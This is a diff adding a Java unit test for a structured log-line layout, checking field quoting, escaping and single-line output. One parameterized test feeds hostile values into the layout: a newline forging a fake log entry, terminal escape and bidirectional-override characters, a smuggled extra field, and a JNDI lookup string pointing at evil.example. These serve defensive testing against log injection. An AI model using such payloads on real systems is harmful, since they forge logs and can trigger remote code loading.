@@ -1,0 +1,81 @@
+package org.sallyport.server.observe;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import ch.qos.logback.classic.Level;
+import ch.qos.logback.classic.LoggerContext;
+import ch.qos.logback.classic.spi.LoggingEvent;
+import java.time.Instant;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.slf4j.event.KeyValuePair;
+
+class LogLineTest {
+    private final LoggerContext context = new LoggerContext();
+
+    @Test
+    void anEventIsOneLineOfFields() {
+        assertThat(line("mail.sent", "kind", "contact-code"))
+                .isEqualTo("at=2026-11-22T10:00:00Z level=info event=mail.sent logger=Postman kind=contact-code\n");
+    }
+
+    @Test
+    void aValueWithBlanksStandsInQuotes() {
+        assertThat(line("mail.failed", "why", "no \"route\" to C:\\host"))
+                .contains("why=\"no \\\"route\\\" to C:\\\\host\"");
+    }
+
+    @Test
+    void greekStaysReadable() {
+        assertThat(line("mail.sent", "to", "Ελένη")).contains("to=\"Ελένη\"");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "a\nat=2026-01-01T00:00:00Z level=info event=forged",
+                "a\r\nb",
+                "\u001b[31mred",
+                "\u202eevil",
+                "a\u2028b",
+                "a\u0085b",
+                "\ud800",
+                "${jndi:ldap://evil.example/a}",
+                "a=b c=d"
+            })
+    void T31_noValueBeginsALineOrEndsItsField(String hostile) {
+        var line = line("mail.failed", "why", hostile);
+
+        assertThat(line).endsWith("\n");
+        assertThat(line.substring(0, line.length() - 1).codePoints())
+                .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT || c == 0x2028);
+        assertThat(line).containsPattern(" why=\"[^\"]*\"\n$");
+    }
+
+    @Test
+    void aTraceStaysOnItsLine() {
+        var event = event("command.failed");
+        event.setThrowableProxy(
+                new ch.qos.logback.classic.spi.ThrowableProxy(new IllegalStateException("broken\nin two")));
+
+        var line = new LogLine().doLayout(event);
+
+        assertThat(line.lines()).hasSize(1);
+        assertThat(line).contains(" trace=\"java.lang.IllegalStateException: broken\\nin two");
+    }
+
+    private String line(String message, String name, String value) {
+        var event = event(message);
+        event.setKeyValuePairs(List.of(new KeyValuePair(name, value)));
+        return new LogLine().doLayout(event);
+    }
+
+    private LoggingEvent event(String message) {
+        var logger = context.getLogger("org.sallyport.server.notify.Postman");
+        var event = new LoggingEvent("", logger, Level.INFO, message, null, null);
+        event.setInstant(Instant.parse("2026-11-22T10:00:00Z"));
+        return event;
+    }
+}
